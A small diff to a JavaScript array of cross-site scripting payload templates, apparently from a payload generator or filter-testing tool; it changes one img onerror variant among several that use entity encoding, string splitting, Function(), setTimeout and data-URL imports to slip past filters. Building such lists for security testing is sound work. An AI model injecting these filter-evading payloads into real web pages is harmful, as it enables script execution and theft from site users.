@@ -14,7 +14,7 @@ const handlers = [
   "<img src=x onerror=&#102;ired(@@js)>",
   '<img src=x onerror="{ent|@@js|}">',
   "<img src=x:x onerror=window['fir'+'ed'](0)||@@js>",
-  "<img src=x onerror=`${@@js}`>",
+  "<img src=x onerror=[@@js]>",
   "<img src=x onerror=\"Function('@@js')()\">",
   "<img src=x onerror=setTimeout('@@js')>",
   "<img src=x onerror=import('data:text/javascript,@@js')>",
